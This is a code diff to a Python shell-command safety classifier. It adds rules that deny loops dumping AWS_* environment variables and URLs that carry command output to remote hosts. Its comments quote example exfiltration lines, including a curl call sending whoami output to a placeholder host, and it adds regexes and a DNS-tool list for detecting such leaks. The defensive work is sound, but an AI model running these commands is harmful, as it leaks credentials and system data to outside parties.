@@ -16,7 +16,7 @@ import re
 from collections.abc import Callable, Sequence
 from typing import Any
 
-from gitgate.safety.classify.allowed import LOCAL_HOSTS
+from gitgate.safety.classify.allowed import LOCAL_HOSTS, is_local_url
 from gitgate.safety.classify.commands import (
     expand_command_braces,
     judge_argv,
@@ -357,6 +357,12 @@ class Walker:
         values = [self._word(item) for item in items]
         known = bool(values) and all(not v.dynamic or v.soft for v in values)
         saved = self.ctx.variables.get(name)
+        # for v in ${!AWS_*}: the loop walks variables' NAMES, so ${!v} prints their values
+        # (an environment dump of that family), like names read from `compgen -v`.
+        names_listed = any(_NAME_LISTING.search(v.raw) for v in values)
+        fresh_name = names_listed and name not in self.read_input
+        if fresh_name:
+            self.read_input.add(name)
         for value in values[:8] if known else [None]:
             if value is None:
                 self.ctx.variables.pop(name, None)
@@ -368,6 +374,8 @@ class Walker:
             self.ctx.variables.pop(name, None)
         else:
             self.ctx.variables[name] = saved
+        if fresh_name:
+            self.read_input.discard(name)
         return findings
 
     def _loop(self, node: Any, depth: int) -> list[Finding]:
@@ -558,10 +566,16 @@ class Walker:
         if not words or len(node.parts) < 2:
             return []
         name = command_name(words[0].text)[0].lower()
-        for part in node.parts[1:]:
+        for part, word in zip(node.parts[1:], words[1:], strict=False):
             for sub in _substitutions_of(part):
                 if name in _DNS_TOOLS:
                     return [deny(f"{name} of a name built from command output: exfiltration")]
+                if _REMOTE_URL.match(word.raw.strip("'\"")) and not is_local_url(
+                    word.raw.strip("'\"")
+                ):
+                    # curl "https://hook.example/h?u=$(whoami)": command output carried off
+                    # in a URL to another host
+                    return [deny(f"{name} sends command output to another host in a URL")]
                 texts = _simple_texts(self, sub.command)
                 if any(is_decoder(plain_words(split_words(t))) for t in texts):
                     return [deny(f"an argument decoded at run time: {short(self._raw(sub))!r}")]
@@ -856,6 +870,8 @@ _TESTS = frozenset(["[", "[[", "test"])
 # Programs whose output is meant to be eval'd and says only what they are: ssh-agent's
 # SSH_AUTH_SOCK=…; export …, brew shellenv, pyenv init.
 _TRUSTED_EVAL_PRODUCERS = frozenset(["ssh-agent", "brew", "pyenv", "rbenv", "direnv", "zoxide"])
+_NAME_LISTING = re.compile(r"\$\{![A-Za-z_][A-Za-z0-9_]*[*@]\}")
+_REMOTE_URL = re.compile(r"(?i)(?:https?|ftp|wss?)://")
 _DNS_TOOLS = frozenset(["nslookup", "dig", "host", "drill", "resolvectl", "getent", "ping"])
 _INDIRECT_REF = re.compile(r"\$\{!([A-Za-z_][A-Za-z0-9_]*)\}")
 _REFERENCED = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")
